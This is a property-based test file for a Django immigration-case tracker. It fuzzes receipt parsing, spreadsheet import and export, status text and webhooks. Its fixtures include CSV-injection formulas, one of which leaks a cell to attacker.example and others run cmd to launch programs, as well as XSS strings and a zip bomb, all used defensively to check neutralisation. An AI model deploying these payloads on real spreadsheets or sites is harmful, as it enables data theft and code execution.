"""Bad input never crashes casewatch, never stores half a row and never reaches a
spreadsheet as a formula: receipts typed anyhow, random bytes imported as CSV or XLSX,
huge files, cells that look like formulas, and garbage sent to the providers' webhooks.

Property-based (hypothesis), with a fixed, moderate number of examples and no example
database written into the repository.
"""

from __future__ import annotations

import codecs
import csv
import io
import itertools
import json
import re
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client as Browser
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from casewatch import config
from casewatch.accounts.models import Firm, Role
from casewatch.cases.history import record_outcome
from casewatch.cases.intake import ImportSummary, import_sheet
from casewatch.cases.models import Case, Client
from casewatch.cases.sheet import MAX_UNPACKED_MB, Sheet, SheetError, read_sheet_bytes
from casewatch.cli.audit_export import write_csv
from casewatch.core.receipts import (
    RECEIPT_PATTERN,
    InvalidReceipt,
    normalize_receipt,
    parse_receipt,
)
from casewatch.core.spreadsheet import FORMULA_STARTS, safe_cell
from casewatch.core.statuses import classify, clean_title, default_catalog
from casewatch.notify.models import DeliveryReceipt, InboundMessage
from casewatch.notify.portal_links import issue_link
from casewatch.notify.receipts import CALLBACK_KEY_PARAM
from casewatch.uscis.sandbox.twilio_fake import twilio_signature
from casewatch.uscis.sandbox.whatsapp_fake import meta_signature
from casewatch.uscis.source import CaseStatus, Found
from casewatch.web import held_files
from tests.environment import sign_in
from tests.test_cli import casewatch
from tests.test_escaping import active_markup
from tests.test_i18n import SPANISH, _english_left
from tests.test_web import _member

# Moderate and repeatable: the whole file runs in about a minute; nothing under .hypothesis/.
settings.register_profile(
    "bad_input",
    database=None,
    deadline=None,
    derandomize=False,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
BAD_INPUT = settings.get_profile("bad_input")
FEW = settings(BAD_INPUT, max_examples=40)
SOME = settings(BAD_INPUT, max_examples=150)
MANY = settings(BAD_INPUT, max_examples=400)

FORMULAS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|' /C notepad'!'A1'",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>",
    "{{ 7*7 }} {% now 'Y' %}",
)
RECEIPTS = ("EAC9999103403", "LIN9999106498", "SRC9999102777", "IOE0912345678", "WAC2190012345")


# -- receipts ------------------------------------------------------------------------------

# What people paste: real receipts with noise, near-misses, and any text at all.
_noise = st.sampled_from([" ", "-", "–", "*", ".", "\u200b", "\ufeff", "\t", "/", "_"])
_typed_receipt = st.builds(
    lambda receipt, cuts, noise, lower: "".join(
        (ch.lower() if lower else ch) + (noise if i in cuts else "") for i, ch in enumerate(receipt)
    ),
    st.sampled_from(RECEIPTS),
    st.sets(st.integers(0, 12), max_size=4),
    _noise,
    st.booleans(),
)
_receipt_like = st.from_regex(r"[A-Za-z]{2,4}[0-9٠-٩０-９]{8,11}", fullmatch=True)
_any_text = st.one_of(
    st.text(),
    _typed_receipt,
    _receipt_like,
    st.sampled_from(FORMULAS + MARKUP),
    st.binary(max_size=40).map(lambda data: data.decode("latin-1")),
)


@MANY
@given(_any_text)
def test_any_text_parses_to_a_valid_receipt_or_raises_the_documented_error(text: str) -> None:
    try:
        receipt = parse_receipt(text)
    except InvalidReceipt as refused:
        assert str(refused), "the refusal says why"
        assert len(str(refused)) < 300, "the refusal does not repeat a pasted page"
        return
    assert len(receipt.number) == 13 and receipt.number.isascii()
    assert RECEIPT_PATTERN.match(receipt.number)
    assert parse_receipt(receipt.number) == receipt


@MANY
@given(_any_text)
def test_normalizing_a_receipt_twice_changes_nothing_more(text: str) -> None:
    once = normalize_receipt(text)
    assert normalize_receipt(once) == once


@SOME
@given(_typed_receipt)
def test_a_receipt_typed_with_dashes_spaces_and_lower_case_is_the_same_receipt(
    text: str,
) -> None:
    assert parse_receipt(text).number in RECEIPTS


@pytest.mark.parametrize("digits", ["٠١٢٣٤٥٦٧٨٩", "۰۱۲۳۴۵۶۷۸۹", "०१२३४५६७८९"])
def test_digits_of_other_scripts_are_not_a_receipt_uscis_takes(digits: str) -> None:
    with pytest.raises(InvalidReceipt, match="ends with 10 digits"):
        parse_receipt("EAC" + digits)


# -- exports: one rule for every cell --------------------------------------------------------


@MANY
@given(st.one_of(st.text(), st.sampled_from(FORMULAS), st.integers(), st.floats()))
def test_no_exported_cell_starts_like_a_formula(value: object) -> None:
    cell = safe_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (str(value), "'" + str(value))


def test_negative_numbers_and_phone_numbers_are_exported_as_text_too() -> None:
    """OWASP: a number starting with - or + is prefixed as well; the sheet still shows it."""
    assert safe_cell(-5) == "'-5" and safe_cell("+12025550142") == "'+12025550142"
    assert safe_cell(None) == "" and safe_cell(42) == "42" and safe_cell("EAC") == "EAC"


# An audit entry's texts are codes, user names and canonical JSON: never a bare line break.
_audit_text = st.one_of(
    st.text(st.characters(exclude_characters="\r\n"), max_size=30),
    st.sampled_from(FORMULAS[:5] + MARKUP),
)
_details = st.dictionaries(st.text(max_size=5), _audit_text, max_size=3).map(json.dumps)


@SOME
@given(st.lists(st.tuples(_audit_text, _audit_text, _audit_text, _details), max_size=5))
def test_the_audit_export_writes_every_cell_as_text_a_spreadsheet_will_not_run(
    entries: list[tuple[str, str, str, str]],
) -> None:

    at = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)
    rows = [
        (seq, at, action, actor, "case", object_id, 1, details, "-" * 64, "=" * 64)
        for seq, (action, actor, object_id, details) in enumerate(entries, 1)
    ]
    out = io.StringIO()
    write_csv(out, rows)
    written = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(written) == len(rows) + 1
    for line, row in zip(written[1:], rows, strict=True):
        for cell, value in zip(line, row, strict=False):
            assert not cell.startswith(FORMULA_STARTS)
            if isinstance(value, str):
                assert cell in (value, "'" + value)


# Sheets the product writes only to feed its own importer (demo and benchmarks), not exports.
IMPORTER_INPUT = frozenset({"cli/demo.py", "cli/bench.py", "cli/bench_chaos.py"})


def test_every_csv_export_goes_through_the_one_formula_rule() -> None:
    """A new CSV writer must pass its cells through safe_cell (or be importer input)."""
    package = Path(__file__).resolve().parent.parent / "casewatch"
    exports = []
    for source in package.rglob("*.py"):
        text = source.read_text(encoding="utf-8")
        if not re.search(r"csv\.(writer|DictWriter)\(", text):
            continue
        name = source.relative_to(package).as_posix()
        assert "FORMULA_STARTS = (" not in text, f"{name}: a second formula rule"
        if name not in IMPORTER_INPUT:
            exports.append(name)
            assert "safe_cell(" in text, f"{name} writes CSV without safe_cell"
    assert {"web/status_check.py", "cli/audit_export.py"} <= set(exports)


# -- import: random bytes, wrong encodings, formulas ------------------------------------------

HEADERS = (
    "Receipt Number",
    "Receipt #",
    "Client",
    "Client ID",
    "E-mail",
    "Phone",
    "Form",
    "Language",
    "Attorney",
    "Paralegal",
    "Tags",
    "Notes",
    "Apellido",
    "Nombre",
)
_cell = st.one_of(
    st.sampled_from(RECEIPTS),
    _typed_receipt,
    st.text(max_size=25),
    st.sampled_from(FORMULAS + MARKUP),
    st.sampled_from(["N/A", "#REF!", "(202) 555-0142", "+44 20 7946 0958", "a@example.com"]),
)
_header = st.lists(st.one_of(st.sampled_from(HEADERS), st.text(max_size=12)), min_size=1)
_rows = st.lists(st.lists(_cell, max_size=9), max_size=12)
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1", "utf-16-be")


@st.composite
def _csv_bytes(draw: st.DrawFn) -> bytes:
    """A CSV a firm might export, in some encoding, now and then damaged by random bytes."""
    header = draw(_header.map(lambda cells: cells[:9]))
    rows = draw(_rows)
    out = io.StringIO()
    writer = csv.writer(
        out,
        delimiter=draw(st.sampled_from(",;\t|")),
        quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])),
        lineterminator=draw(st.sampled_from(["\r\n", "\n", "\r"])),
    )
    writer.writerow(header)
    writer.writerows(rows)
    data = out.getvalue().encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
    if draw(st.booleans()):
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(max_size=30)) + data[at:]
    return data


def _xlsx(
    header: Sequence[object], rows: Sequence[Sequence[object]], *, formulas_as_text: bool
) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in [header, *rows]:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    if formulas_as_text:  # as Excel stores a cell typed with a leading apostrophe
        for line in sheet.iter_rows():
            for cell in line:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@st.composite
def _xlsx_bytes(draw: st.DrawFn) -> bytes:
    """A workbook with any cells; sometimes with a few of its bytes overwritten."""
    header = draw(_header.map(lambda cells: cells[:9]))
    values = st.one_of(_cell, st.integers(-(10**15), 10**15), st.floats(allow_nan=False))
    rows = draw(st.lists(st.lists(values, max_size=9), max_size=8))
    data = _xlsx(header, rows, formulas_as_text=draw(st.booleans()))
    for _ in range(draw(st.integers(0, 3))):
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + bytes([draw(st.integers(0, 255))]) + data[at + 1 :]
    return data


_files = st.one_of(
    st.binary(max_size=3000),
    st.binary(max_size=600).map(lambda data: b"PK\x03\x04" + data),
    st.binary(max_size=600).map(lambda data: codecs.BOM_UTF16_LE + data),
    _csv_bytes(),
    _xlsx_bytes(),
)

_firms = itertools.count(1)


def _new_firm() -> Firm:
    n = next(_firms)
    return Firm.objects.create(name=f"Fuzz Firm {n}", slug=f"fuzz-{n}")


def _assert_every_row_accounted_for_and_whole(
    firm: Firm, sheet: Sheet, summary: ImportSummary
) -> None:
    """The report names each row once; each valid receipt is one whole case, no more."""
    results = summary.results
    assert summary.rows == len(results) == len(sheet.rows)
    assert [r.line for r in results] == [row.line for row in sheet.rows]
    tracked = [r for r in results if r.receipt_number is not None]
    repeats = [r for r in results if r.receipt_number is None and not r.rejected]
    assert summary.rejected == sum(1 for r in results if r.rejected)
    assert summary.created + summary.updated + summary.unchanged == len(tracked)
    assert len(tracked) + summary.rejected + len(repeats) == summary.rows
    for result in results:
        if result.receipt_number is None:  # a skipped row says why
            assert result.errors and all(e.row == result.line for e in result.errors)
    cases = {c.receipt_number: c for c in Case.objects.filter(firm=firm).select_related("client")}
    assert set(cases) == {r.receipt_number for r in tracked}
    for result in tracked:
        case = cases[result.receipt_number]
        assert (case.form_type, case.tags, case.notes) == (
            result.form_type,
            result.tags,
            result.notes,
        )
        has_client = bool(
            result.client_id or result.client_name or result.client_email or result.client_phone
        )
        assert (case.client is not None) == has_client
        if case.client is not None and not result.client_id:
            assert case.client.name == result.client_name
            assert case.client.email == result.client_email
            assert case.client.phone == result.client_phone


@pytest.mark.django_db
@FEW
@given(data=_files, name=st.sampled_from(["cases.csv", "cases.xlsx", "upload"]))
def test_any_file_imports_whole_rows_or_is_refused_as_a_whole(data: bytes, name: str) -> None:
    try:
        sheet = read_sheet_bytes(data, name)
    except SheetError as refused:
        assert str(refused)
        return
    firm = _new_firm()
    summary = import_sheet(firm, sheet, file_name=name)
    _assert_every_row_accounted_for_and_whole(firm, sheet, summary)


@pytest.mark.django_db
@FEW
@given(data=_csv_bytes())
def test_any_csv_in_any_encoding_imports_every_valid_row_once(data: bytes) -> None:
    try:
        sheet = read_sheet_bytes(data, "cases.csv")
    except SheetError:
        return
    firm = _new_firm()
    _assert_every_row_accounted_for_and_whole(firm, sheet, import_sheet(firm, sheet, file_name="x"))
    again = import_sheet(firm, sheet, file_name="x")
    assert again.created == again.updated == 0  # the same file twice changes nothing


def test_a_nul_anywhere_in_a_csv_refuses_the_file_as_not_text() -> None:
    """PostgreSQL cannot store NUL; a NUL deep in the file is not a half-imported file."""
    data = b"Receipt Number,Notes\n" + b"EAC9999103403,fine\n" * 1000 + b"LIN9999106498,a\x00b\n"
    with pytest.raises(SheetError, match="does not look like a CSV"):
        read_sheet_bytes(data, "cases.csv")


def test_a_workbook_that_unpacks_to_gigabytes_is_refused_unread() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        member = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        with archive.open(member, "w", force_zip64=True) as sheet:
            chunk = b" " * (1024 * 1024)
            for _ in range(MAX_UNPACKED_MB + 1):
                sheet.write(chunk)
    with pytest.raises(SheetError, match=f"unpacks to more than {MAX_UNPACKED_MB} MB"):
        read_sheet_bytes(buffer.getvalue(), "bomb.xlsx")


FORMULA_SHEET = [
    ["Receipt Number", "Client", "Notes", "Tags", "Attorney"],
    ["EAC9999103403", FORMULAS[0], "=1+1", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"],
]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_formula_in_an_imported_cell_is_stored_as_text_and_exported_neutralized(
    kind: str,
) -> None:
    if kind == "csv":
        out = io.StringIO()
        csv.writer(out).writerows(FORMULA_SHEET)
        data = out.getvalue().encode()
    else:
        header, *rows = FORMULA_SHEET
        data = _xlsx(list(header), [list(r) for r in rows], formulas_as_text=True)
    firm = _new_firm()
    summary = import_sheet(firm, read_sheet_bytes(data, f"cases.{kind}"), file_name="f")
    assert summary.created == 1
    case = Case.objects.select_related("client", "attorney").get(firm=firm)
    assert case.client is not None and case.client.name == FORMULAS[0]  # text, not evaluated
    assert (case.notes, case.tags) == ("=1+1", ["@SUM(1+1)"])
    assert case.attorney is not None and case.attorney.first_name == "-2+3+cmd|'"
    name_warning = [e for e in summary.errors if e["column"] == "client_name"]
    assert name_warning and "formula" in str(name_warning[0]["message"])
    # Out again through the product's export rule: text a spreadsheet shows, never runs.
    stored = (case.client.name, case.notes, *case.tags, case.attorney.get_full_name())
    exported = next(csv.reader(io.StringIO(_csv_of([safe_cell(v) for v in stored]))))
    assert exported == ["'" + value for value in stored]


def _csv_of(row: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out).writerow(row)
    return out.getvalue()


# -- USCIS texts with markup -----------------------------------------------------------------

_uscis_fragments = st.sampled_from(
    [
        *MARKUP,
        "<script>alert(1)</script>",
        "<a href='javascript:alert(1)'>x</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;#39;",
        "<",
        ">",
        "&",
        "Case Was Approved",
        "Request for Evidence Was Sent",
        "Caso Aprobado",
        "On March 2, 2026, we mailed your card.",
    ]
)
_uscis_text = st.lists(st.one_of(_uscis_fragments, st.text(max_size=10)), max_size=6).map("".join)


@MANY
@given(_uscis_text)
def test_the_status_normalizer_takes_any_uscis_text_and_never_guesses_from_markup(
    text: str,
) -> None:
    verdict = classify(text)
    assert verdict.status in default_catalog().statuses or verdict.status == "unknown"
    cleaned = clean_title(text)
    assert "<" not in cleaned and ">" not in cleaned
    assert clean_title(cleaned) == cleaned


@pytest.mark.django_db
def test_uscis_texts_with_markup_show_as_text_wherever_they_show(paula: User) -> None:
    firm = Firm.objects.get(slug="example")
    browser = Browser()
    sign_in(browser, paula)
    client = Client.objects.create(firm=firm, personal={"name": "Test Client"}, language="es")
    _link, token = issue_link(client, by_user_id=paula.pk, at=timezone.now())
    receipts = (f"EAC24900{n:05d}" for n in itertools.count(1))

    @FEW
    @given(title=_uscis_text, description=_uscis_text, spanish=_uscis_text)
    def uscis_says(title: str, description: str, spanish: str) -> None:
        case = Case.objects.create(firm=firm, receipt_number=next(receipts), client=client)
        said = CaseStatus(
            receipt_number=case.receipt_number or "",
            form_type="I-485",
            title_en=title,
            title_es=spanish,
            description_en=description,
            description_es=spanish,
            submitted_at=None,
            modified_at=datetime(2026, 3, 2, 14, 0, tzinfo=UTC),
            history=(),
            message="",
            source="sandbox",
        )
        record_outcome(case, Found(said), observed_at=timezone.now())
        for url, reader in (
            (f"/cases/{case.pk}/", browser),
            ("/cases/", browser),
            (f"/portal/{token}/", Browser()),
        ):
            response = reader.get(url)
            assert response.status_code == 200, url
            assert active_markup(response.content.decode()) == [], url

    uscis_says()


# -- oversized uploads ---------------------------------------------------------------------


@pytest.fixture
def firm() -> Firm:
    return Firm.objects.create(name="Example Immigration Law", slug="example")


@pytest.fixture
def paula(firm: Firm) -> User:
    return _member(firm, "paula", Role.PARALEGAL)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("language", "says"),
    [
        ("en", ("64.0\xa0KB", "Nothing was imported")),
        (SPANISH, ("64,0\xa0KB", "No se importó nada")),
    ],
)
@pytest.mark.parametrize("size", [100 * 1024, 1024 * 1024])
def test_an_upload_over_the_limit_is_refused_unread_saying_the_limit(
    paula: User,
    settings: Any,
    language: str,
    says: tuple[str, ...],
    size: int,
) -> None:
    settings.CASEWATCH_MAX_UPLOAD_BYTES = 64 * 1024
    browser = Browser(headers={"Accept-Language": language})
    sign_in(browser, paula)
    before = set(held_files.folder().iterdir())
    big = b"Receipt Number\n" + b"EAC9999103403\n" * (size // 14)
    response = browser.post("/intake/import/", {"file": SimpleUploadedFile("big.csv", big)})
    assert response.status_code == 413
    page = response.content.decode()
    for words in says:
        assert words in page
    assert set(held_files.folder().iterdir()) == before
    assert Case.objects.count() == 0


@pytest.mark.django_db
def test_an_upload_under_the_limit_still_goes_through(paula: User, settings: Any) -> None:
    settings.CASEWATCH_MAX_UPLOAD_BYTES = 64 * 1024
    browser = Browser()
    sign_in(browser, paula)
    small = b"Receipt Number\nEAC9999103403\n"
    response = browser.post("/intake/import/", {"file": SimpleUploadedFile("s.csv", small)})
    assert response.status_code == 302


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", SPANISH])
def test_a_form_too_big_to_read_gets_a_page_saying_so_not_a_bare_error(
    paula: User, settings: Any, language: str
) -> None:
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    browser = Browser(headers={"Accept-Language": language})
    sign_in(browser, paula)
    pasted = "\n".join(["EAC9999103403"] * 2000)
    response = browser.post("/intake/receipts/", {"receipts": pasted})
    assert response.status_code == 413
    page = response.content.decode()
    english = "nothing was saved or imported"
    assert (english in page) == (language == "en")
    if language != "en":
        assert "no se guardó ni se importó nada" in page
        assert _english_left(page) == []
    assert Case.objects.count() == 0


@pytest.mark.django_db
def test_a_webhook_body_too_big_to_read_is_refused_not_a_crash() -> None:
    body = b'{"entry": "' + b"x" * 3_000_000 + b'"}'
    headers = {"X-Hub-Signature-256": meta_signature(_whatsapp_secret(), body)}
    response = Browser().post(WHATSAPP, data=body, content_type="application/json", headers=headers)
    assert response.status_code == 413


@pytest.mark.django_db
def test_an_attorney_cell_too_long_for_an_e_mail_address_is_kept_as_a_name() -> None:
    """User.email holds 254 characters; PostgreSQL refused the whole import before."""
    attorney = "counsel@" + "x" * 260 + ".example.com"
    data = f"Receipt Number,Attorney\nEAC9999103403,{attorney}\n".encode()
    firm = _new_firm()
    summary = import_sheet(firm, read_sheet_bytes(data, "cases.csv"), file_name="cases.csv")
    assert summary.created == 1
    case = Case.objects.select_related("attorney").get(firm=firm)
    assert case.attorney is not None and case.attorney.email == ""


def test_the_cli_refuses_a_file_over_its_limit_with_code_2_and_one_line(tmp_path: Path) -> None:
    big = tmp_path / "caseload.csv"
    big.write_bytes(b"Receipt Number\n" + b"EAC9999103403\n" * 80_000)  # about 1.1 MB
    result = casewatch(
        "import", str(big), "--json", data_dir=tmp_path / "d", env={"CASEWATCH_MAX_IMPORT_MB": "1"}
    )
    assert result.returncode == 2 and result.stdout == ""
    line = result.stderr.strip()
    assert "\n" not in line and "1.0 MB" in line and "nothing was imported" in line


def test_the_cli_refuses_a_binary_file_with_code_2_and_one_line(tmp_path: Path) -> None:
    binary = tmp_path / "caseload.xlsx"
    binary.write_bytes(bytes(range(256)) * 64)
    result = casewatch("import", str(binary), "--json", data_dir=tmp_path / "d")
    assert result.returncode == 2 and result.stdout == ""
    line = result.stderr.strip()
    assert "\n" not in line and "nothing was imported" in line


# -- webhooks: garbage, signed or not ---------------------------------------------------------

WHATSAPP = "/webhooks/whatsapp"
TWILIO = "/webhooks/twilio"
FORM = "application/x-www-form-urlencoded"

_json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.text(max_size=20),
    st.sampled_from(["\x00", "x" * 300, "delivered", "read", "failed", "text", "messages"]),
)
_json = st.recursive(
    _json_leaf,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(
            st.sampled_from(
                [
                    "entry",
                    "changes",
                    "value",
                    "statuses",
                    "messages",
                    "id",
                    "status",
                    "from",
                    "timestamp",
                    "type",
                    "text",
                    "body",
                    "errors",
                    "code",
                    "field",
                    "button",
                    "biz_opaque_callback_data",
                ]
            )
            | st.text(max_size=8),
            inner,
            max_size=5,
        ),
    ),
    max_leaves=30,
)


def _envelope(status: dict[str, Any], message: dict[str, Any]) -> dict[str, Any]:
    value = {"messaging_product": "whatsapp", "statuses": [status], "messages": [message]}
    return {"object": "whatsapp_business_account", "entry": [{"changes": [{"value": value}]}]}


_meta_bodies = st.one_of(
    st.binary(max_size=500),
    _json.map(lambda v: json.dumps(v).encode()),
    st.builds(_envelope, st.dictionaries(st.text(max_size=8), _json_leaf), st.just({})).map(
        lambda v: json.dumps(v).encode()
    ),
    st.builds(
        lambda sid, status, code, sender, body: _envelope(
            {"id": sid, "status": status, "timestamp": "1e400", "errors": [{"code": code}]},
            {"from": sender, "id": sid, "type": "text", "text": {"body": body}},
        ),
        st.text(max_size=200) | st.just("wamid.\x00" + "x" * 200),
        st.sampled_from(["sent", "delivered", "read", "failed", "deleted", "\x00"]),
        st.text(max_size=80),
        st.text(max_size=40),
        st.text(max_size=100),
    ).map(lambda v: json.dumps(v).encode()),
    st.integers(1, 5000).map(lambda depth: b"[" * depth * 20 + b"]" * depth * 20),
)


def _whatsapp_secret() -> str:
    return config.whatsapp_settings().app_secret


@pytest.mark.django_db
@SOME
@given(body=_meta_bodies, signed=st.booleans())
def test_whatsapp_garbage_is_refused_unsigned_and_never_crashes_signed(
    body: bytes, signed: bool
) -> None:
    headers = {"X-Hub-Signature-256": meta_signature(_whatsapp_secret(), body)} if signed else {}
    response = Browser().post(WHATSAPP, data=body, content_type="application/json", headers=headers)
    assert response.status_code in ((200, 400) if signed else (403,))


_form_values = st.one_of(
    st.text(max_size=40), st.sampled_from(["\x00", "x" * 300, "SM" + "a" * 32, "delivered"])
)
_twilio_params = st.dictionaries(
    st.sampled_from(
        ["MessageSid", "SmsSid", "MessageStatus", "SmsStatus", "ErrorCode", "From", "To", "Body"]
    )
    | st.text(min_size=1, max_size=10),
    _form_values,
    max_size=8,
)


@pytest.mark.django_db
@SOME
@given(
    params=_twilio_params,
    signed=st.booleans(),
    query=st.sampled_from(["", f"{CALLBACK_KEY_PARAM}=%00", f"{CALLBACK_KEY_PARAM}={'x' * 300}"]),
)
def test_twilio_garbage_is_refused_unsigned_and_never_crashes_signed(
    params: dict[str, str], signed: bool, query: str
) -> None:
    token = config.twilio_settings().auth_token
    path = TWILIO + (f"?{query}" if query else "")
    headers = {}
    if signed:
        headers["X-Twilio-Signature"] = twilio_signature(token, f"http://testserver{path}", params)
    response = Browser().post(
        path, urlencode(params), content_type=FORM, headers=headers
    )  # as Twilio posts: a URL-encoded form
    assert response.status_code in ((200, 400) if signed else (403,))


@pytest.mark.django_db
@FEW
@given(body=st.binary(max_size=500), kind=st.sampled_from(["form", "multipart", "json"]))
def test_twilio_random_bytes_of_any_content_type_never_crash(body: bytes, kind: str) -> None:
    content_type = {
        "form": FORM,
        "multipart": "multipart/form-data; boundary=xyz",
        "json": "application/json",
    }[kind]
    token = config.twilio_settings().auth_token
    headers = {"X-Twilio-Signature": twilio_signature(token, f"http://testserver{TWILIO}", {})}
    response = Browser().post(TWILIO, data=body, content_type=content_type, headers=headers)
    assert response.status_code in (200, 400, 403)


@pytest.mark.django_db
def test_signed_ids_too_long_or_with_nul_are_acknowledged_and_ignored() -> None:
    body = json.dumps(
        _envelope(
            {"id": "wamid." + "x" * 300, "status": "delivered", "errors": [{"code": "9" * 99}]},
            {"from": "1555\x000100123", "id": "wamid.\x00", "type": "text", "text": {"body": "hi"}},
        )
    ).encode()
    headers = {"X-Hub-Signature-256": meta_signature(_whatsapp_secret(), body)}
    response = Browser().post(WHATSAPP, data=body, content_type="application/json", headers=headers)
    assert response.status_code == 200
    assert DeliveryReceipt.objects.count() == 0
    stored = InboundMessage.objects.get()
    assert "\x00" not in stored.provider_message_id and "\x00" not in stored.sender


@pytest.mark.django_db
def test_control_characters_in_a_uscis_answer_are_dropped_before_it_is_recorded() -> None:
    """NUL cannot be stored in PostgreSQL: an answer carrying one must not stop the worker."""
    firm = Firm.objects.create(name="Control Firm", slug="control")
    case = Case.objects.create(firm=firm, receipt_number="EAC2490099999")
    said = CaseStatus(
        receipt_number="EAC2490099999",
        form_type="I-485\x00",
        title_en="Case Was\x00 Approved\x07",
        title_es="Caso Aprobado\x00",
        description_en="On March 2, 2026, we approved\x00 your case.\n",
        description_es="",
        submitted_at=None,
        modified_at=datetime(2026, 3, 2, 14, 0, tzinfo=UTC),
        history=(),
        message="",
        source="sandbox",
    )

    record_outcome(case, Found(said), observed_at=timezone.now())

    case.refresh_from_db()
    assert case.status == "approved"
    observation = case.observations.get()
    assert observation.title_en == "Case Was Approved"
    assert observation.description_en == "On March 2, 2026, we approved your case.\n"
